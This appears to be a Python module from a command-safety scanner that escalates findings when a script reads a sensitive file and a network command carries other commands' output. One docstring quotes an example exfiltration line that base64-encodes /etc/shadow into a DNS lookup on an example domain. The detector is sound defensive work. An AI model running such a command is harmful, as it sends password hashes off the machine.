"""A secret that is read in one place of a script and carried to another machine in another."""

from collections.abc import Iterable, Iterator
from collections.abc import Set as AbstractSet

from vigil.domain.effects import EffectKind
from vigil.guard.findings import Finding, Mark
from vigil.guard.program import Command, Span

_MILD = frozenset({EffectKind.READ, EffectKind.REVERSIBLE})


def carries(command: Command) -> bool:
    """Whether what other commands print becomes part of it: of its words, or of what it reads."""
    return bool(command.words_from or command.fed_by)


def with_leaks(findings: Iterable[Finding], carriers: AbstractSet[Span]) -> Iterator[Finding]:
    """A command that talks to another machine, and carries something, may well carry the secret.

    Which text goes where is not followed: ``dig $(base64 /etc/shadow).example.org`` is one name to
    look up, and the whole file.
    """
    found = tuple(findings)
    reads = any(Mark.READS_SENSITIVE in finding.marks for finding in found)
    for finding in found:
        if reads and Mark.NETWORK in finding.marks and finding.span in carriers:
            kind = EffectKind.DISRUPTIVE if finding.kind in _MILD else finding.kind
            marks = finding.marks | {Mark.SENDS_OUT}
            yield finding.model_copy(update={"kind": kind, "marks": marks})
        else:
            yield finding
